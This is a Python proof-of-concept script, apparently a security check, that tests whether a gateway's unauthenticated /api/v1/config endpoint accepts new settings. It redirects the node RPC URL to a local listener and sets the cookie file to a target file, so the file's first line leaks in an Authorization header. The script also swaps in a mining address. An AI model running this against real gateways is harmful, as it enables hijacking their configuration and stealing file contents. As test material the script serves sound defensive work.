#!/usr/bin/env python3
"""A gateway that waits for its first settings, and an attacker who can only reach its port: a local user who
wants a file's first line sent to a port of his, or anybody on the internet behind a proxy that does not name
its clients. Exit code 1: it took his settings, or showed its own."""

import argparse
import http.client
import json
import socket
import threading


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("address", help="of the API, host:port")
    parser.add_argument("--file", default="/etc/hostname", help="file whose first line to steal")
    args = parser.parse_args()
    heard = []
    thief = socket.create_server(("127.0.0.1", 0))
    threading.Thread(target=listen, args=(thief, heard), daemon=True).start()
    changes = {
        "node.0.rpc_url": f"http://127.0.0.1:{thief.getsockname()[1]}",
        "node.0.rpc_cookie_file": args.file,
        "mining.address": "bcrt1qw508d6qejxtdg4y5r3zarvary0c5xw7kygt080",
    }
    fell = []
    for headers in [{}, {"Authorization": "Bearer 0000-0000"}]:
        status, body = ask(args.address, "PUT", headers, {"changes": changes})
        print(f"{status} PUT /api/v1/config {headers}: {body[:100]}")
        fell += ["settings"] if status == 200 else []
        status, body = ask(args.address, "GET", headers)
        print(f"{status} GET /api/v1/config {headers}")
        fell += ["reading"] if status == 200 else []
    threading.Event().wait(3)
    print(f"the thief heard {heard[:2]}; fell: {fell}")
    raise SystemExit(bool(fell or heard))


def listen(thief, heard):
    while True:
        connection, _ = thief.accept()
        request = connection.recv(4096)
        heard += [line for line in request.split(b"\r\n") if line.lower().startswith(b"authorization")]
        connection.close()


def ask(address, method, headers, body=None):
    connection = http.client.HTTPConnection(address, timeout=10)
    text = json.dumps(body) if body else None
    more = {"Content-Type": "application/json"} if body else {}
    connection.request(method, "/api/v1/config", text, {**headers, **more})
    answer = connection.getresponse()
    return answer.status, answer.read().decode()


main()
